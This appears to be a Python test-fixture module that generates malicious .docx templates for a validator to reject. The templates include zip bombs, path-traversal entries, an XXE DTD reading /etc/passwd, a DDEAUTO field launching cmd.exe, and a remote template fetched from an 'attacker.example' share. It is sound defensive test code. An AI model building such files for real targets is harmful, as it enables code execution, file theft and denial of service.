"""Generators for hostile .docx templates (built on the fly: some are zip bombs).

Each generator returns template bytes; ``TEMPLATES`` maps a name to the generator and
the fragment of the ``TemplateError`` that must refuse it.
"""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable

import docx

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


BLOCKS = ("caption", "good_cause", "sealing_acknowledgment", "challenges", "filing_under_seal")


def plain(text: str = "{{ case.number }}") -> bytes:
    """A minimal, harmless template: one paragraph of ``text`` and the mandatory parts."""
    document = docx.Document()
    document.add_paragraph(text)
    for block in BLOCKS:
        document.add_paragraph(f"{{{{p blocks.{block} }}}}")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def rezip(
    data: bytes,
    add: dict[str, bytes] | None = None,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
    *,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """Copy a package, editing some parts and appending others (names unchecked)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            if edit and info.filename in edit:
                body = edit[info.filename](body)
            target.writestr(info.filename, body)
        for name, body in (add or {}).items():
            target.writestr(zipfile.ZipInfo(name), body, compress_type=compression)
    return out.getvalue()


def _with_rel(rel_type: str, target: str, part: str = "word/_rels/document.xml.rels") -> bytes:
    rel = (
        f'<Relationship Id="rIdHostile" Type="{REL}/{rel_type}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    return rezip(plain(), edit={part: lambda b: b.replace(b"</Relationships>", rel)})


def _content_type(extra: str) -> Callable[[bytes], bytes]:
    return lambda b: b.replace(b"</Types>", extra.encode() + b"</Types>")


def macro_project() -> bytes:
    vba = (
        '<Override PartName="/word/vbaProject.bin" '
        'ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    return rezip(
        plain(),
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really VBA"},
        edit={"[Content_Types].xml": _content_type(vba)},
    )


def macro_enabled_type() -> bytes:
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    docm = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return rezip(plain(), edit={"[Content_Types].xml": lambda b: b.replace(main, docm)})


def ole_object() -> bytes:
    return rezip(plain(), add={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})


def ole_relationship() -> bytes:
    rel = (
        f'<Relationship Id="rIdOle" Type="{REL}/oleObject" Target="media/thing.bin"/>'
        "</Relationships>"
    ).encode()
    return rezip(
        plain(),
        add={"word/media/thing.bin": b"x"},
        edit={"word/_rels/document.xml.rels": lambda b: b.replace(b"</Relationships>", rel)},
    )


def remote_image() -> bytes:
    return _with_rel("image", "http://tracker.example/pixel.png")


def remote_link() -> bytes:
    return _with_rel("hyperlink", "https://phish.example/login")


def attached_template() -> bytes:
    settings_rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
        'Target="file://attacker.example/share/evil.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    return rezip(plain(), add={"word/_rels/settings.xml.rels": settings_rels})


def doctype_entities() -> bytes:
    """An XXE / billion-laughs prologue in the main document part."""
    dtd = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document ['
        b'<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )

    def add_dtd(body: bytes) -> bytes:
        return dtd + body[body.index(b"?>") + 2 :].lstrip()

    return rezip(plain(), edit={"word/document.xml": add_dtd})


def _in_body(xml: bytes) -> Callable[[bytes], bytes]:
    return lambda body: body.replace(b"</w:body>", xml + b"</w:body>")


def dde_field() -> bytes:
    """The classic DDEAUTO attack, its code split over runs as Word itself often does."""
    runs = b"".join(
        b'<w:r><w:instrText xml:space="preserve">' + piece + b"</w:instrText></w:r>"
        for piece in (b" DD", b'EAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')
    )
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def includepicture_field() -> bytes:
    field = (
        b"<w:p><w:fldSimple w:instr='INCLUDEPICTURE \"http://tracker.example/p.png\" \\d'>"
        b"<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    )
    return rezip(plain(), edit={"word/document.xml": _in_body(field)})


def parent_path() -> bytes:
    return rezip(plain(), add={"../../evil.txt": b"x"})


def absolute_path() -> bytes:
    return rezip(plain(), add={"/etc/cron.d/evil": b"x"})


def backslash_path() -> bytes:
    return rezip(plain(), add={"word\\..\\..\\evil.xml": b"x"})


def drive_path() -> bytes:
    return rezip(plain(), add={"C:/Windows/evil.xml": b"x"})


def ratio_bomb() -> bytes:
    """One part of 20 MB of zeros that deflates to about 20 kB."""
    return rezip(plain(), add={"word/media/bomb.xml": bytes(20_000_000)})


def size_bomb() -> bytes:
    """51 stored (uncompressed) parts of 1 MB: no ratio to catch, but 51 MB in all."""
    parts = {f"word/media/pad{i}.bin": b"\x01" * 1_000_000 for i in range(51)}
    return rezip(plain(), add=parts, compression=zipfile.ZIP_STORED)


def many_entries() -> bytes:
    return rezip(plain(), add={f"customXml/hostile{i}.xml": b"<a/>" for i in range(1_200)})


def duplicate_entry() -> bytes:
    """Two ``word/document.xml`` entries: zip readers disagree on which one counts."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        return rezip(plain(), add={"word/document.xml": plain_document("{{ other }}")})


def plain_document(text: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(plain(text))).read("word/document.xml")


def encrypted_entry() -> bytes:
    data = bytearray(rezip(plain(), add={"word/secret.xml": b"<a/>"}))
    # Set the "encrypted" bit in the central directory record of the last entry.
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 0x01
    return bytes(data)


def not_a_zip() -> bytes:
    return b"<html>this is not a Word document</html>"


def truncated_zip() -> bytes:
    return plain()[:2000]


TEMPLATES: dict[str, tuple[Callable[[], bytes], str]] = {
    "macro_project": (macro_project, "macro project (word/vbaProject.bin)"),
    "macro_enabled_type": (macro_enabled_type, "macro or ActiveX content"),
    "ole_object": (ole_object, "embedded object (word/embeddings/oleObject1.bin)"),
    "ole_relationship": (ole_relationship, "links an embedded object or macro"),
    "remote_image": (remote_image, "external relationship to 'http://tracker.example/pixel.png'"),
    "remote_link": (remote_link, "external relationship to 'https://phish.example/login'"),
    "attached_template": (attached_template, "external relationship to 'file://attacker"),
    "doctype_entities": (doctype_entities, "word/document.xml declares a DTD"),
    "dde_field": (dde_field, "word/document.xml has a field DDEAUTO, which runs a program"),
    "includepicture_field": (includepicture_field, "word/document.xml has a field INCLUDEPICTURE"),
    "parent_path": (parent_path, "'../../evil.txt' has an absolute or parent path"),
    "absolute_path": (absolute_path, "'/etc/cron.d/evil' has an absolute or parent path"),
    "backslash_path": (backslash_path, "has an absolute or parent path"),
    "drive_path": (drive_path, "'C:/Windows/evil.xml' has an absolute or parent path"),
    "ratio_bomb": (ratio_bomb, "limit 100 to 1; zip bomb?"),
    "size_bomb": (size_bomb, "decompresses to more than 50,000,000 bytes"),
    "many_entries": (many_entries, "zip entries (limit 1,000)"),
    "duplicate_entry": (duplicate_entry, "zip entry 'word/document.xml' appears twice"),
    "encrypted_entry": (encrypted_entry, "'word/secret.xml' is encrypted"),
    "not_a_zip": (not_a_zip, "not a .docx (zip) package"),
    "truncated_zip": (truncated_zip, "not a .docx (zip) package"),
}
